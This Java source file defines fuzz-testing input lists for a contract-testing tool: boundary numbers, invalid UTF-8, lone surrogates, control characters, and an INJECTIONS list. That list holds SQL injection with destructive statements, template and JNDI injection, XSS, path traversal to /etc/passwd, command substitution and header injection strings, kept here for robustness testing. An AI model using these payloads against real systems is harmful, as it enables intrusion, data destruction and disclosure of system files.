package dev.verigen.contracts.testing.fuzz;

import java.util.List;

/** The hostile values the fuzzers put into requests; public so a test can also use them one by one. */
public final class FuzzValues {

    /** Payloads that must be stored and shown as plain text, never interpreted. */
    public static final List<String> INJECTIONS = List.of(
            "' or 1=1 --",
            "\"; drop table runs; --",
            "'); delete from tenants; --",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "${jndi:ldap://x/a}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%00",
            "%s%s%s%n",
            "$(touch /tmp/pwned)",
            "`id`",
            "\r\nX-Injected: 1",
            "\u202egnp.exe",
            "\uD83D\uDE00\u0301\u200B");

    /** Numbers at and past the limits of long and double, as JSON text. */
    public static final List<String> NUMBERS = List.of(
            "1e308",
            "-1e308",
            "1.7976931348623157e309",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "1" + "0".repeat(400),
            "1e400",
            "-1e400",
            "1e-400",
            "4.9e-324",
            "-1",
            "0",
            "-0",
            "0.0",
            "0.5",
            "-0.000001",
            "2147483648",
            "1e99999999999",
            "9".repeat(5000));

    /** Byte sequences that are not UTF-8, each with what it is. */
    public static final List<InvalidUtf8> INVALID_UTF8 = List.of(
            new InvalidUtf8("0xff", new byte[] {(byte) 0xFF}),
            new InvalidUtf8("0xfe 0xfe", new byte[] {(byte) 0xFE, (byte) 0xFE}),
            new InvalidUtf8("lone continuation 0x80", new byte[] {(byte) 0x80}),
            new InvalidUtf8("overlong NUL 0xc0 0x80", new byte[] {(byte) 0xC0, (byte) 0x80}),
            new InvalidUtf8("truncated 2-byte 0xc3", new byte[] {(byte) 0xC3}),
            new InvalidUtf8("truncated 3-byte 0xe2 0x82", new byte[] {(byte) 0xE2, (byte) 0x82}),
            new InvalidUtf8("encoded surrogate 0xed 0xa0 0x80", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}),
            new InvalidUtf8("above U+10FFFF", new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}),
            new InvalidUtf8("5-byte form", new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80,
                    (byte) 0x80}),
            new InvalidUtf8("latin-1 e-acute", new byte[] {'c', 'a', 'f', (byte) 0xE9}));

    /** JSON string literals holding unpaired UTF-16 surrogates (valid JSON, not valid Unicode). */
    public static final List<String> LONE_SURROGATES = List.of(
            "\"\\ud800\"",
            "\"\\udfff\"",
            "\"x\\ud83d\"",
            "\"\\ude00x\"",
            "\"\\ud800\\ud800\"",
            "\"\\udc00\\ud800\"");

    /** JSON string literals with escaped NUL and other control or invisible characters. */
    public static final List<String> ESCAPED_CONTROLS = List.of(
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\u001b[2J\\u001b[31m\"",
            "\"\\u0007\\u0008\\u000b\\u000c\"",
            "\"\\r\\nX-Injected: 1\"",
            "\"\\u2028\\u2029\"",
            "\"\\ufeff\\ufffe\\uffff\"");

    /** Control bytes written raw inside a string literal, which JSON forbids. */
    public static final List<InvalidUtf8> RAW_CONTROLS = List.of(
            new InvalidUtf8("raw NUL", new byte[] {0}),
            new InvalidUtf8("raw 0x01", new byte[] {1}),
            new InvalidUtf8("raw newline", new byte[] {'\n'}),
            new InvalidUtf8("raw tab", new byte[] {'\t'}),
            new InvalidUtf8("raw escape", new byte[] {0x1B}));

    /** A named byte sequence. */
    public record InvalidUtf8(String name, byte[] bytes) {
    }

    private FuzzValues() {
    }
}
